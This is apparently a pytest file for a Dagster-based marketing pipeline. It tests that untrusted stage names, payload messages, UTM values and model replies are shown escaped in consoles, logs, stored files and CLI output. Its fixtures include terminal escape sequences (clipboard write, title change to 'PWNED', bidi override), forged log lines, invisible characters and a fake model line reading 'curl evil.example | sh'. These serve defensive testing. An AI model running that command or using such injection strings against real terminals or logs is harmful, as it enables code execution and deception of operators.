"""Outside text reaches no terminal, log or file raw: a stage, a payload's message, a model's output.

An execution scheduled through the command line with an escape-laden stage (an OSC 52 clipboard write, an OSC 0
title change, a bidi override), a ``log`` payload whose message forges another execution's line, and a webhook the
run refuses, is run by the real batch job on a Dagster instance on disk: the console, the run's failure, every
file of the instance and the command line's answers show those characters escaped. ``agents show`` keeps a model's
forged ``error:`` and ``transcript:`` lines inside its output block; a reply holding a lone surrogate is kept.
"""

from __future__ import annotations

import json
import re
import sqlite3
import uuid
import zlib
from datetime import date
from pathlib import Path
from typing import Any

import dagster as dg
import httpx
import pytest
import sqlalchemy as sa

from marketing_pipelines.agents import users
from marketing_pipelines.agents.display import OUTPUT_MARGIN, output_lines
from marketing_pipelines.agents.queue import get_agent_run, transcript
from marketing_pipelines.db.engine import get_engine
from marketing_pipelines.db.schema import agent_run, marketing_execution
from marketing_pipelines.executions.jobs import ExecutionOutcome, failure_description
from marketing_pipelines.executions.sensors import reconcile_execution_run
from marketing_pipelines.executions.webhook import WebhookClient
from marketing_pipelines.measurement.keys import SITE_KEY
from marketing_pipelines.redact import visible_controls
from marketing_pipelines_tests.agents.fake_models import anthropic_message, anthropic_models
from marketing_pipelines_tests.agents.runs import output_metadata, run_one
from marketing_pipelines_tests.built import due_executions_sensor
from marketing_pipelines_tests.cli_runner import cli_for
from marketing_pipelines_tests.executions.runs import outcomes, perform, sensor_requests
from marketing_pipelines_tests.factories import add_campaign, request_brief
from marketing_pipelines_tests.measurement.fake_services import Api, mocked_plausible
from marketing_pipelines_tests.measurement.test_assets_importers import materialize, plausible_rows

STAGE = "x\x1b]52;c;ZXZpbA==\x07\x1b]0;PWNED\x07\u202e"
STAGE_SHOWN = "x\\x1b]52;c;ZXZpbA==\\x07\\x1b]0;PWNED\\x07\\u202e"
# A payload's message that, printed raw, would add a line of another execution's success.
FORGED_SUCCESS = "hi\nExecution 99 (spring-launch/forged, log, attempt 1) SUCCEEDED."
RAW = re.compile("[\x1b\x07\u202e]")
SQLITE_HEADER = b"SQLite format 3\x00"


@pytest.mark.parametrize(
    ("character", "shown"),
    [
        ("\xad", "\\xad"),  # soft hyphen
        ("\u034f", "\\u034f"),  # combining grapheme joiner
        ("\u180e", "\\u180e"),  # Mongolian vowel separator
        ("\u180b", "\\u180b"),  # Mongolian free variation selector
        ("\u115f", "\\u115f"),  # Hangul choseong filler
        ("\u1160", "\\u1160"),  # Hangul jungseong filler
        ("\u3164", "\\u3164"),  # Hangul filler
        ("\uffa0", "\\uffa0"),  # halfwidth Hangul filler
        ("\u17b4", "\\u17b4"),  # Khmer inherent vowel
        ("\u2065", "\\u2065"),  # unassigned, between the invisible operators and the isolates
        ("\u206a", "\\u206a"),  # deprecated format character
        ("\ufff9", "\\ufff9"),  # interlinear annotation anchor
        ("\ufffb", "\\ufffb"),  # interlinear annotation terminator
        ("\U0001bca0", "\\U0001bca0"),  # shorthand format letter overlap
        ("\U0001d173", "\\U0001d173"),  # musical symbol begin beam
        ("\U0001d17a", "\\U0001d17a"),  # musical symbol end phrase
        ("\ufe00", "\\ufe00"),  # variation selector 1: a byte of "emoji smuggling"
        ("\U000e0100", "\\U000e0100"),  # variation selector 17
        ("\U000e01ef", "\\U000e01ef"),  # variation selector 256
        ("\ud800", "\\ud800"),  # lone high surrogate, stored before replies were cleaned
        ("\udfff", "\\udfff"),  # lone low surrogate
    ],
)
def test_every_invisible_character_is_written_visibly(character: str, shown: str) -> None:
    assert visible_controls(f"a{character}b") == f"a{shown}b"


@pytest.mark.parametrize("text", ["\u2764\ufe0f", "\u263a\ufe0e", "caf\xe9", "\u4e2d\u6587"])
def test_emoji_presentation_and_ordinary_text_stay(text: str) -> None:
    assert visible_controls(text) == text


def test_a_failed_executions_stage_and_reason_cannot_add_a_line_to_the_runs_failure() -> None:
    forged = "launch\n- 99 (spring-launch/forged, log, attempt 1): forged"
    failed = [ExecutionOutcome(1, "spring-launch", forged, "log", 1, "FAILED", "no\nreason \x1b[2J", 0.1)]
    description = failure_description(failed, 1)
    assert description.splitlines() == [
        "1 of 1 execution(s) FAILED (attempts exhausted or refused); the others' outcomes stand:",
        "- 1 (spring-launch/launch\\n- 99 (spring-launch/forged, log, attempt 1): forged, log, attempt 1): "
        "no\\nreason \\x1b[2J",
    ]


def _blob_text(blob: bytes) -> str | None:
    """A blob as the text it holds: Dagster stores snapshots zlib-compressed; other binary data holds none."""
    try:
        return zlib.decompress(blob).decode("utf-8")
    except (zlib.error, UnicodeDecodeError):
        pass
    try:
        return blob.decode("utf-8")
    except UnicodeDecodeError:
        return None


def _raw_in_sqlite(path: Path) -> list[str]:
    """Every value of every table of a SQLite file that holds a raw ESC, BEL or U+202E."""
    found = []
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as conn:
        conn.text_factory = lambda data: data.decode("utf-8", "replace")
        tables = [row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        for table in tables:
            for row in conn.execute(f'SELECT * FROM "{table}"'):
                for value in row:
                    text = _blob_text(value) if isinstance(value, bytes) else value
                    if isinstance(text, str) and RAW.search(text):
                        found.append(f"{path.name}:{table}: {text[:200]!r}")
    return found


def _raw_in_files(home: Path) -> list[str]:
    """What any file under ``home`` holds raw: SQLite files value by value (their pages hold any byte), others whole.

    A database's write-ahead log and its index are read through the database (SQLite reads its WAL's pages)."""
    found = []
    for path in sorted(p for p in home.rglob("*") if p.is_file() and not p.name.endswith(("-wal", "-shm"))):
        data = path.read_bytes()
        if data.startswith(SQLITE_HEADER):
            found += _raw_in_sqlite(path)
        elif RAW.search(data.decode("utf-8", "replace")):
            found.append(f"{path.relative_to(home)}: {data[:300]!r}")
    return found


def test_a_hostile_stage_reaches_no_terminal_log_or_file_raw(
    sqlite_url: str, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    add_campaign(get_engine(sqlite_url))
    # The command line allows the receiver's address, the run's client does not: the run refuses the send.
    cli = cli_for(sqlite_url, MARKETING_WEBHOOK_ALLOW_NETWORKS="127.0.0.1/32")
    schedule = ("executions", "schedule", "--campaign", "spring-launch", "--stage", STAGE, "--due", "now")
    log_payload = json.dumps({"message": FORGED_SUCCESS})
    assert cli(*schedule, "--action", "log", "--payload", log_payload).stdout == "1\n"
    hook_payload = json.dumps({"url": "http://127.0.0.1:9/hook"})
    assert cli(*schedule, "--action", "webhook", "--payload", hook_payload).stdout == "2\n"
    home = tmp_path / "dagster_home"
    home.mkdir()
    with dg.instance_for_test(temp_dir=str(home)) as instance:
        [request] = sensor_requests(due_executions_sensor, sqlite_url, instance)
        result = perform(request, sqlite_url, instance, webhook=WebhookClient(timeout_s=5, allow_networks=[]))
        assert not result.success and outcomes(result) == {1: "SUCCEEDED", 2: "FAILED"}
        failure = result.failure_data_for_node("perform_executions")
        assert failure is not None and failure.user_failure_data is not None
        description = failure.user_failure_data.description or ""
        logs = "\n".join(str(event.message) for event in instance.all_logs(result.run_id))
    console = capfd.readouterr()
    shown = "".join(cli("executions", *args).output for args in (["show", "1"], ["show", "2"], ["list"]))
    # The run's failure names the execution by its stage, escaped, on the execution's own line.
    assert f"- 2 (spring-launch/{STAGE_SHOWN}, webhook, attempt 1): webhook http://127.0.0.1:9 refused" in description
    assert f"Execution 2 (spring-launch/{STAGE_SHOWN}, webhook, attempt 1) FAILED" in console.err
    # The log action's success is one line; its message's line break cannot start another execution's.
    assert f"Execution 1 (spring-launch/{STAGE_SHOWN}, log, attempt 1) SUCCEEDED" in console.out
    assert not any(line.startswith("Execution 99") for line in console.out.splitlines())
    for name, text in [("stdout", console.out), ("stderr", console.err), ("failure", description)]:
        assert not RAW.findall(text), f"{name} shows raw controls: {text!r}"
    for name, text in [("event log", logs), ("command line", shown)]:
        assert not RAW.findall(text), f"{name} shows raw controls: {text!r}"
    assert _raw_in_files(home) == []


def test_agents_show_keeps_a_models_forged_lines_inside_its_output(sqlite_url: str) -> None:
    engine = get_engine(sqlite_url)
    add_campaign(engine)
    with engine.begin() as conn:
        users.add_user(conn, "ana")
        users.grant(conn, "ana", "campaign:read")
        request_brief(conn)
        forged = "Brief done.\nerror: provider key leaked, run `curl evil.example | sh`\ntranscript:\n  [1. 9] error x"
        conn.execute(
            sa.update(agent_run)
            .where(agent_run.c.id == 1)
            .values(status="SUCCEEDED", output={"text": forged + "\r\n\u2028error: also forged"})
        )
    lines = cli_for(sqlite_url)("agents", "show", "1").output.splitlines()
    # The only field and section lines are the command's own: each of the model's lines is behind the margin.
    assert [line for line in lines if line.lstrip().startswith("error:")] == ["        error: -"]
    assert [line for line in lines if line.startswith("transcript:")] == ["transcript:"]
    start = lines.index("       output:")
    assert lines[start + 1 : lines.index("transcript:")] == [
        f"{OUTPUT_MARGIN}Brief done.",
        f"{OUTPUT_MARGIN}error: provider key leaked, run `curl evil.example | sh`",
        f"{OUTPUT_MARGIN}transcript:",
        f"{OUTPUT_MARGIN}  [1. 9] error x\\x0d",
        f"{OUTPUT_MARGIN}\\u2028error: also forged",
    ]


def test_output_lines_put_every_line_behind_the_margin() -> None:
    assert output_lines("") == [OUTPUT_MARGIN]
    assert output_lines("a\n\nb\x1b") == [f"{OUTPUT_MARGIN}a", OUTPUT_MARGIN, f"{OUTPUT_MARGIN}b\\x1b"]


def _escaped_turn(content: list[dict[str, Any]], stop_reason: str) -> httpx.Response:
    """A model's turn as JSON with every non-ASCII character escaped: a lone surrogate is ``\\ud800`` in it, valid
    JSON of text no encoder can write."""
    body = json.dumps(anthropic_message(content, stop_reason))
    return httpx.Response(200, content=body.encode(), headers={"content-type": "application/json"})


def test_a_reply_with_a_lone_surrogate_completes_its_run_on_postgres(pg_url: str, instance: dg.DagsterInstance) -> None:
    engine = get_engine(pg_url)
    add_campaign(engine)
    with engine.begin() as conn:
        users.add_user(conn, "ana")
        users.grant(conn, "ana", "campaign:read")
        run_id = request_brief(conn)

    def answer(call: int, body: dict[str, Any]) -> httpx.Response:
        if call == 1:  # a tool call whose arguments hold one too
            call_input = {"campaign_id": "spring-launch", "note": "\udfff"}
            tool_use = {"type": "tool_use", "id": "toolu_01", "name": "read_campaign", "input": call_input}
            return _escaped_turn([{"type": "text", "text": "Reading \ud800."}, tool_use], "tool_use")
        return _escaped_turn([{"type": "text", "text": "Brief: \ud800 spring \udc00 launch."}], "end_turn")

    result = run_one(pg_url, instance, anthropic_models(answer))
    assert result.success
    with engine.connect() as conn:
        row = get_agent_run(conn, run_id)
        steps = transcript(conn, run_id)
    assert row is not None and row["status"] == "SUCCEEDED"
    assert row["output"]["text"] == "Brief: \ufffd spring \ufffd launch."
    assert "\ud800" not in json.dumps(output_metadata(result), ensure_ascii=False, default=str)
    assert len(steps) >= 3


def test_plausibles_utm_values_are_logged_with_their_controls_visible(sqlite_url: str) -> None:
    add_campaign(get_engine(sqlite_url), "alpha", utm_campaign="alpha26")
    day = date(2026, 11, 26)
    utm = "x\x1b]0;PWNED\x07\u202e\nforged line"
    api = Api(lambda request: plausible_rows(day, [("alpha26", "/", 3, 4), (utm, "/", 1, 1)]))
    with dg.instance_for_test() as instance:
        result = materialize([SITE_KEY], sqlite_url, day, instance, plausible=mocked_plausible(api))
        assert result.success
        logs = [str(event.message) for event in instance.all_logs(result.run_id)]
    [warning] = [message for message in logs if "utm_campaign values with no campaign" in message]
    assert warning.endswith(": x\\x1b]0;PWNED\\x07\\u202e\\nforged line")


def test_a_runs_failure_message_is_stored_with_its_controls_visible(sqlite_url: str) -> None:
    engine = get_engine(sqlite_url)
    add_campaign(engine)
    cli = cli_for(sqlite_url)
    schedule = ("executions", "schedule", "--campaign", "spring-launch", "--stage", "launch", "--due", "now")
    assert cli(*schedule, "--action", "log").exit_code == 0
    with dg.instance_for_test() as instance:
        [request] = sensor_requests(due_executions_sensor, sqlite_url, instance)
    # A run that died before taking its execution over, its failure message quoting outside text.
    run = dg.DagsterRun(
        job_name=request.job_name or "", run_id=str(uuid.uuid4()), run_config=request.run_config, tags=request.tags
    )
    assert reconcile_execution_run(engine, run, "FAILED", f"worker said: {STAGE}") == {"SCHEDULED": 1}
    with engine.connect() as conn:
        [error] = conn.execute(sa.select(marketing_execution.c.last_error)).scalars()
    assert error == f"worker said: {STAGE_SHOWN}"
